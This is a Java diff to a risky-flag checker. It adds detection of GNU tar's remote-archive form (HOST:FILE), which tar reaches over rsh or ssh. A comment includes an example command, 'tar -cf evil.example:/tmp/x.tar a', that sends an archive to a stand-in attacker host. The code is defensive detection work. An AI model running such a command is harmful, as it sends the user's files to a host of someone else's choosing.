@@ -136,6 +136,21 @@ final class RiskyFlags {
           ANYWHERE);
 
   /**
+   * GNU tar's {@code -f HOST:FILE} ({@code --file}, old-style {@code tar cf h:x.tar}): an archive
+   * name with a colon, not first and after no {@code /}, is on another host, which tar reaches by
+   * running its {@code --rsh-command} (default {@code /usr/bin/rsh}, often ssh) and {@code rmt}
+   * there (GNU tar manual, "Remote Tape Server"; rtapelib.c {@code _remdev}; GNU tar 1.34 resolves
+   * {@code evil.example} for {@code tar -cf evil.example:/tmp/x.tar a}): {@code -c} sends the
+   * archive to a host the caller chooses. Not risky with {@code --force-local}, which reads the
+   * name as a local file.
+   */
+  static final Flag TAR_REMOTE_ARCHIVE =
+      new Flag(
+          "remote-archive",
+          "names an archive on another host (HOST:FILE), which tar reaches through rsh",
+          ANYWHERE);
+
+  /**
    * Why tar's {@code -T}/{@code --files-from} (bsdtar's {@code -I} is its synonym, risky anyway as
    * GNU tar's {@code --use-compress-program}) and {@code --add-file} are risky, whatever their
    * value and mode. A file list names the files tar archives (read on {@code -c}, {@code -r},
@@ -993,7 +1008,7 @@ final class RiskyFlags {
                     "-g",
                     "--listed-incremental"),
                 flags(FILE_LIST, ANYWHERE, "-T", "--files-from", "--add-file"),
-                List.of(TAR_DIRECTORY))));
+                List.of(TAR_DIRECTORY, TAR_REMOTE_ARCHIVE))));
     tool(
         List.of("rsync"),
         new Tool(
@@ -1191,6 +1206,16 @@ final class RiskyFlags {
                 : tarDirectory(t, word, i + 1 < argv.size() ? argv.get(i + 1) : null);
         if (dir != null && leavesWorkdir(dir) && !inWord.contains(TAR_DIRECTORY)) {
           found.add(new Use(w, TAR_DIRECTORY, t));
+        }
+        String archive =
+            oldStyleTar
+                ? oldStyleValue(t, argv, 'f')
+                : tarArchive(t, word, i + 1 < argv.size() ? argv.get(i + 1) : null);
+        if (archive != null
+            && remoteArchive(archive)
+            && !argv.contains("--force-local")
+            && found.stream().noneMatch(u -> u.flag() == TAR_REMOTE_ARCHIVE)) {
+          found.add(new Use(w, TAR_REMOTE_ARCHIVE, t));
         }
       }
       if (t.style() == Style.SCRIPT && endsOptions(t, word)) {
@@ -1550,6 +1575,33 @@ final class RiskyFlags {
       return word.substring(eq + 1);
     }
     return null;
+  }
+
+  /**
+   * The archive {@code word} names with tar's {@code -f}/{@code --file} ({@code next} the word
+   * after it), or null; a long prefix such as {@code --fil} is read as {@code --file} too (GNU tar
+   * calls it ambiguous with {@code --files-from}: erring towards finding).
+   */
+  private static String tarArchive(Tool t, String word, String next) {
+    String v = optionValue(t, word, next, "--file", 'f');
+    if (v != null || !word.startsWith("--")) {
+      return v;
+    }
+    int eq = word.indexOf('=');
+    String name = (eq < 0 ? word : word.substring(0, eq)).toLowerCase(java.util.Locale.ROOT);
+    if (name.length() >= 4 && "--file".startsWith(name)) {
+      return eq < 0 ? next : word.substring(eq + 1);
+    }
+    return null;
+  }
+
+  /**
+   * Whether GNU tar reads archive name {@code name} as HOST:FILE: a colon that is not its first
+   * character, with no {@code /} before it (rtapelib.c {@code _remdev}).
+   */
+  static boolean remoteArchive(String name) {
+    int colon = name.indexOf(':');
+    return colon > 0 && name.lastIndexOf('/', colon) < 0;
   }
 
   /**
